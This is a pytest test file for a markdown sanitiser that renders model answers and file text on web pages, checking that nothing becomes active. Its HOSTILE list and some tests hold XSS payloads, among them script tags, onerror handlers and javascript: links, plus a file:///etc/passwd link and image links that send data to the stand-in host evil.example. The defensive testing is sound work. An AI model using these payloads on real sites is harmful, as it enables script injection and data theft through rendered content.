"""Text of models and files on the pages: what is shown, and what never becomes active."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from gptsmith.ui.web.parts import markdown

BEYOND = "*From here on it is shown as it is written.*"

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "text <b onclick='x()'>bold</b> <!-- hidden --> <?php x ?> <![CDATA[x]]>",
    "![](http://evil.example/?d=secret)",
    "![a][b]\n\n[b]: http://evil.example/p.png",
    "[x](javascript:alert(1))",
    "[x](JaVa\tScript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x) [y](file:///etc/passwd) [z](//evil.example)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n[x]",
    "[![p](http://evil.example/a.png)](javascript:alert(1))",
    '[a](https://ok.example/"onmouseover=alert(1))',
    '[a](<https://ok.example/x> "title <script>")',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`` ` <img src=x> ` ``",
    "```\n<img src=x onerror=1>\n```",
    "````x\n```\n![p](http://evil.example)\n```\n````",
    "| a | b |\n|---|---|\n| <img src=x> | ![](http://evil.example) |",
    "> <iframe src=//evil.example>\n> - ![](http://evil.example)",
    "$\\href{javascript:alert(1)}{x}$ and $$\\includegraphics{http://evil.example}$$",
    "\\(x\\) $a$<img src=x>$b$",
    "a\\\n<img src=x>",
    "![x](\nhttp://evil.example/\n)",
]


def active(text: str) -> list[str]:
    """List what a browser would load or run, read with the loosest parser: raw HTML on."""
    found = []
    stack = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(text)
    for token in [t for block in stack for t in [block, *(block.children or [])]]:
        if token.type in ("html_block", "html_inline", "image"):
            found.append(token.content or str(token.attrs))
        href = str(token.attrs.get("href", ""))
        if token.type == "link_open" and not re.match(r"(https?|mailto):", href):
            found.append(href)
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_a_text_is_active(text: str) -> None:
    for shown in (markdown.safe(text, {1: 1}), markdown.plain(text), markdown.line(text), markdown.marked(text)):
        assert active(shown) == []


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Hello **you** and _me_, `code`", "Hello **you** and *me*, `code`"),
        ("# Title", "#### Title"),
        ("- a\n  - b", "- a\n  - b"),
        ("3. a\n4. b", "3. a\n4. b"),
        ("a [1] b [2, 3] c [9]", "a :blue-badge[1] b :blue-badge[2]:blue-badge[3] c \\[9\\]"),
        ("It costs $5 and $10", "It costs \\$5 and \\$10"),
        ("mean $\\mu$ or \\(\\sigma\\)", "mean $\\mu$ or $\\sigma$"),
        ("\\[\nx^2\n\\]", "$$\nx^2\n$$"),
        ("[docs](https://a.example/x)", "[docs](<https://a.example/x>) (a.example)"),
        ("see https://a.example/x_y.", "see [https://a.example/x\\_y](<https://a.example/x_y>)."),
        ("![cat](http://e.example/c.png)", "\\[picture not loaded: cat, from e.example\\]"),
        ("<b>x</b> :red[y]", "\\<b\\>x\\</b\\> \\:red\\[y\\]"),
        ("| a |\n|---|\n| `x\\|y` |", "| a |\n| --- |\n| `x\\|y` |"),
        ("a\u202eb\x00c", "abc"),
    ],
)
def test_ordinary_text_reads_as_meant(text: str, shown: str) -> None:
    assert markdown.safe(text, {1: 1, 2: 2, 3: 3}) == shown


def test_file_text_is_shown_as_it_is() -> None:
    assert markdown.plain("1. one\n- [two](x)") == "1\\. one  \n\\- \\[two\\](x)"
    assert markdown.marked("a]b\n\nc") == ":orange-background[a\\]b]  \n  \n:orange-background[c]"
    assert markdown.line(" a\n b ") == "a b"


def test_what_is_too_long_is_said() -> None:
    text = "word " * 50_000
    assert markdown.safe(text).endswith("word\n\n*50,000 more characters are not shown here.*")
    assert markdown.plain(text).endswith("\n\n*50,000 more characters are not shown here.*")


def test_a_half_streamed_answer_stays_harmless() -> None:
    whole = "Look: ![x](http://evil.example/?d=1) and ```py\n<script>\n``` [a](javascript:alert(1)) $$x$$"
    for end in range(len(whole)):
        assert active(markdown.safe(whole[:end])) == []


def test_public_payloads_stay_text() -> None:
    folder = os.environ.get("GPTSMITH_TEST_DATA")
    if not folder:
        pytest.skip("GPTSMITH_TEST_DATA is not set: the public payload lists are not here")
    text = (Path(folder) / "hostile" / "dompurify_expect.mjs").read_text()
    payloads = [json.loads(f'"{found}"') for found in re.findall(r'"payload": "((?:[^"\\]|\\.)*)"', text)]
    payloads += json.loads((Path(folder) / "hostile" / "blns.json").read_text())
    assert len(payloads) > 500
    for payload in payloads:
        assert active(markdown.safe(payload)) == []
        assert active(markdown.plain(payload)) == []


@pytest.mark.parametrize(
    "piece", ["![", "[", "|a|b|\n", "- a\n", "1. a\n", "a\n=\n", "_a_ ", "**a**", "~~a", "$a", "`a", "\\*"]
)
def test_very_many_signs_are_shown_as_they_are_written(piece: str) -> None:
    text = piece * 30_000
    formatted, rest = markdown._parted(text)
    assert formatted + rest == text and rest
    assert len(re.findall(r"[\n`*_\[\]!<>#|~$\\&]", formatted)) <= 10_000, "what is read is bounded"
    assert BEYOND in markdown.safe(text)
    assert markdown.safe(text) is markdown.safe(text), "a page that is drawn again reads nothing again"


def test_beyond_very_many_signs_nothing_is_active() -> None:
    shown = markdown.safe("*a*\n" * 5000 + "<script>alert(1)</script> ![x](http://evil.example) [1]", {1: 1})
    before, after = shown.split(BEYOND)
    assert before.startswith("*a*")
    assert "\\<script\\>" in after and "\\!" not in after and "![" not in after.replace("!\\[", "")
    assert ":blue-badge" not in after


def test_long_prose_is_formatted_to_its_end() -> None:
    text = "Words of an ordinary answer, with *one* sign now and then. " * 3000
    assert BEYOND not in markdown.safe(text)
